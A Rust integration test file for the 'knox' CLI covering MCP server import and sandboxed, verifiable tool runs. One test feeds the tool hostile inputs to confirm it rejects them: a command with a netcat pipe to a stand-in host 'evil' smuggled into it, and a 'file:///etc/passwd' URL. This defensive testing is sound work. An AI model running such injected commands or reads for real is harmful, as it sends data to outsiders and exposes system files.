//! `knox mcp import` (the MCP half of `knox toolkit import`) against real servers
//! installed by `scripts/mcp-servers`: a confined stdio server and a Streamable-HTTP
//! one. Without them the tests fail under `CI=true` and are skipped, loudly, otherwise.

use std::path::{Path, PathBuf};

use super::support::knox;

fn servers() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../.mcp-servers");
    if p.join(".installed").exists() {
        return Some(std::fs::canonicalize(p).unwrap());
    }
    let msg = "MCP test servers are missing: run scripts/mcp-servers";
    assert!(std::env::var_os("CI").is_none(), "{msg}");
    eprintln!("\n!!!!!!!!!! SKIPPED: {msg} !!!!!!!!!!\n");
    None
}

fn skeleton(out: &Path) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(out).unwrap()).unwrap()
}

fn effect<'a>(doc: &'a serde_json::Value, tool: &str) -> &'a str {
    doc["tools"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == tool)
        .and_then(|t| t["effect"].as_str())
        .unwrap_or("<missing>")
}

#[test]
fn import_writes_a_reviewed_skeleton_from_a_confined_stdio_server() {
    let Some(dir) = servers() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("fs.json");
    let index = dir.join("node/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js");
    let o = knox()
        .args(["mcp", "import", "--name", "fs", "--mcp-stdio"])
        .arg(format!("node {} {}", index.display(), tmp.path().display()))
        .arg("-o")
        .arg(&out)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let doc = skeleton(&out);
    assert_eq!(doc["format"], "knox-toolkit-skeleton/1");
    assert_eq!(doc["review_required"], true);
    assert_eq!(effect(&doc, "fs.read_text_file"), "read");
    assert_eq!(effect(&doc, "fs.write_file"), "write");
    for t in doc["tools"].as_array().unwrap() {
        assert!(!t["review"].as_array().unwrap().is_empty(), "{t}");
        assert_eq!(t["inputSchema"]["type"], "object", "{t}");
    }
    // The needs it ran under are in the skeleton, for review: no TCP endpoint.
    assert_eq!(doc["server"]["needs"]["endpoints"], serde_json::json!([]));
}

#[test]
fn import_refuses_bad_input_with_a_clear_error() {
    let tmp = tempfile::tempdir().unwrap();
    for args in [
        vec!["--mcp-stdio", "node x | nc evil 1"],
        vec!["--mcp-stdio", ""],
        vec!["--mcp-http", "file:///etc/passwd"],
        vec!["--mcp-stdio", "no-such-program-knox"],
        vec!["--name", "a.b", "--mcp-http", "http://127.0.0.1:9/mcp"],
    ] {
        let o = knox()
            .args(["mcp", "import"])
            .args(&args)
            .current_dir(tmp.path())
            .output()
            .unwrap();
        assert_eq!(
            o.status.code(),
            Some(64),
            "{args:?}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
    }
    // A server that is not there: unavailable (69), naming it.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let o = knox()
        .args([
            "mcp",
            "import",
            "--name",
            "gone",
            "--timeout-secs",
            "5",
            "--mcp-http",
        ])
        .arg(format!("http://127.0.0.1:{port}/mcp"))
        .output()
        .unwrap();
    assert_eq!(
        o.status.code(),
        Some(69),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(String::from_utf8_lossy(&o.stderr).contains("gone"));
}

/// The one command of a user with their own manifest, prompt, plan and MCP server:
/// `knox run --manifest M --prompt … --plan P --mcp servers.toml`. The real npm
/// filesystem server runs confined, reads the planned file, its off-needs system calls
/// are denied by the kernel and recorded, and `knox verify` says `complete` on the
/// bundle alone.
#[test]
fn run_with_a_user_manifest_and_a_real_mcp_server_verifies_from_the_bundle_alone() {
    let Some(dir) = servers() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let docs = tmp.path().join("docs");
    std::fs::create_dir(&docs).unwrap();
    std::fs::write(docs.join("notes.txt"), "meeting at 10\n").unwrap();
    // The tool uid the server runs as must reach the files.
    for p in [tmp.path(), docs.as_path()] {
        std::fs::set_permissions(p, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }
    std::fs::set_permissions(
        docs.join("notes.txt"),
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )
    .unwrap();
    let modules = dir.join("node/node_modules");
    let index = modules.join("@modelcontextprotocol/server-filesystem/dist/index.js");
    std::fs::write(
        tmp.path().join("fs.toml"),
        r#"format = "knox-toolkit/1"
description = "files"
[runtime]
syscalls = ["read", "write", "exit_group"]
paths = []
limits = { max_processes = 64, max_file_bytes = 1048576, max_memory_bytes = 1073741824, cpu_seconds = 60, max_open_files = 1024 }
[[servers]]
name = "fs"
needs = { profile = "offline" }
cost = 1
[[servers.tools]]
name = "fs.read_text_file"
description = "Read a file"
effect = "read"
[servers.tools.inputSchema]
type = "object"
required = ["path"]
[servers.tools.inputSchema.properties]
path = { type = "string" }
"#,
    )
    .unwrap();
    std::fs::write(
        tmp.path().join("servers.toml"),
        format!(
            r#"version = 1
[[server]]
name = "fs"
command = "node"
args = ["{index}", "{docs}"]
roots = ["{docs}"]
manifest = "fs.toml"
[server.needs]
profile = ["offline"]
syscalls = ["capget", "epoll_create1", "epoll_ctl", "epoll_wait", "epoll_pwait", "eventfd2"]
paths = [{{ path = "{docs}", access = ["read"] }}, {{ path = "{modules}", access = ["read"] }}, {{ path = "/etc/ssl/openssl.cnf", access = ["read"] }}]
"#,
            index = index.display(),
            docs = docs.display(),
            modules = modules.display(),
        ),
    )
    .unwrap();
    let notes = docs.join("notes.txt");
    std::fs::write(
        tmp.path().join("plan.json"),
        serde_json::json!({"calls": [{"tool": "fs.read_text_file", "params": {"path": notes}}]})
            .to_string(),
    )
    .unwrap();
    let out = tmp.path().join("out");
    let o = knox()
        .current_dir(tmp.path())
        .args(["run", "--manifest", "fs.toml", "--prompt", "Read my notes"])
        .args(["--plan", "plan.json", "--mcp", "servers.toml", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    if super::support::sandbox_unavailable(&o) {
        return;
    }
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let bundle = out.join("run-0000.json");
    let b = super::support::read_json(&bundle);
    assert_eq!(b["apm"]["guards"]["trajectory"]["mode"], "tolerant");
    let nodes = b["nodes"].as_array().unwrap();
    let output = nodes.iter().find(|n| n["kind"] == "tool_output").unwrap(); // the server answered
    assert_eq!(
        output["payload"]["output"]["structuredContent"]["content"],
        "meeting at 10\n"
    );
    assert_eq!(output["payload"]["confinement"]["mcp_server"], "fs");
    // Verified with no file but the bundle: it carries its manifest.
    let v = knox()
        .args(["verify", "--allow-simulated"])
        .arg(&bundle)
        .output()
        .unwrap();
    assert_eq!(
        v.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&v.stdout)
    );
    assert!(String::from_utf8_lossy(&v.stdout).contains("toolkit manifest from the bundle"));
}
